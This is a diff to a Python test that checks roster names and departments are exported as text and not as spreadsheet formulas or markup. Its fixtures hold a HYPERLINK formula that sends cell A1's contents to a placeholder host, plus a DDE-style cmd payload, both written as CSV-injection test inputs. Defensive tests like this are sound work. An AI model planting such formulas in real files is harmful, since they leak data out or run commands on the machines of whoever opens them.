@@ -339,7 +339,8 @@ def test_roster_text_is_never_a_formula_or_markup(tmp_path):
     """A 姓名 or 科室 such as =HYPERLINK(...) stays text in every export (CSV/xlsx injection)."""
     home = tmp_path / "h"
     roster = tmp_path / "名册.csv"
-    evil_name, evil_dept = '=HYPERLINK("http://x.invalid/?"&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    # (no "?" in the name: the roster refuses a name with "?", a character an encoding lost)
+    evil_name, evil_dept = '=HYPERLINK("http://x.invalid/p="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"
     roster.write_text(
         f'工号,姓名,科室,类别\nMZ900,"{evil_name.replace(chr(34), chr(34) * 2)}",{evil_dept},公务员\n'
         "MZ901,<b>王五</b>|x,-办公室,公务员\n",
